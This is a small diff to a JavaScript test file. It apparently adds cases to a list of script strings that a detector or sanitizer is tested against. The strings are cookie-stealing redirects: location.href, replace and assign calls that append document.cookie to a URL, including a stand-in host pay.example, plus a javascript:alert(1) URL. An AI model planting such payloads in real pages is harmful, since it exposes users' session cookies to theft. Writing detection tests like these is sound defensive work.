@@ -215,6 +215,9 @@ describe('a script', () => {
 
   test.each([
     `location.replace('${pay}&c=' + document.cookie)`,
+    `location.href='${pay}&c='+document.cookie`,
+    `location.assign(base + '${pay}')`,
+    "location.href = 'javascript:alert(1)'",
     // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a script
     'location.href = `https://pay.example/${document.cookie}`',
     `location.href = '${pay}&c=' + document.cookie;`,
